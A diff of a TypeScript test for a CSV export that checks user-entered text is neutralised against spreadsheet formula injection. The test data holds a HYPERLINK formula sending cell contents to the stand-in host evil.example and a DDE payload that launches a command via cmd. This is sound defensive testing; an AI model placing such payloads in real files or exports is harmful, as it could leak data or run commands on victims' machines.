@@ -99,7 +99,9 @@ describe('the CSV export of text someone typed in', () => {
     const before = await detailOf('prosjektskjonn');
     const scheme = structuredClone(before.scheme);
     scheme.name.nb = '=HYPERLINK("https://evil.example/?"&A1;"Klikk")';
-    scheme.owner.name = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const formula = "@SUM(1+1)*cmd|' /C calc'!A0";
+    // A new owner id, so the name is its own (one owner id carries the same names everywhere).
+    scheme.owner = { id: 'formel-eier', name: { nb: formula, nn: formula, en: formula }, url: null };
     scheme.calls[0]!.title.nb = '-2+3';
     scheme.calls[1] && (scheme.calls[1].title.nb = '+1');
     const saved = await save('prosjektskjonn', scheme, before.version);
@@ -108,7 +110,8 @@ describe('the CSV export of text someone typed in', () => {
     const schemesCsv = (await app.inject({ url: '/api/export/schemes.csv' })).body;
     const row = (parse(schemesCsv, { columns: true }) as Record<string, string>[]).find((r) => r.id === 'prosjektskjonn')!;
     expect(row.name_nb).toBe(`'${scheme.name.nb}`);
-    expect(row.owner).toBe(`'${scheme.owner.name}`);
+    expect(row.owner_name).toBe(`'${formula}`);
+    expect(row.owner_id).toBe('formel-eier');
     expect(schemesCsv).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1;""Klikk"")"');
     // Every text cell is quoted; numbers are not, so a spreadsheet still reads them as numbers.
     const line = schemesCsv.split('\n').find((l) => l.startsWith('"prosjektskjonn"'))!;
@@ -118,8 +121,8 @@ describe('the CSV export of text someone typed in', () => {
     const calls = (parse((await app.inject({ url: '/api/export/calls.csv' })).body, { columns: true }) as Record<string, string>[]).filter(
       (c) => c.scheme_id === 'prosjektskjonn',
     );
-    expect(calls.find((c) => c.call_id === scheme.calls[0]!.id)!.title_nb).toBe("'-2+3");
-    for (const c of calls) expect(c.title_nb, c.call_id).not.toMatch(/^[=+\-@\t\r]/);
+    expect(calls.find((c) => c.call_id === scheme.calls[0]!.id)!.title).toBe("'-2+3");
+    for (const c of calls) expect(c.title, c.call_id).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
 
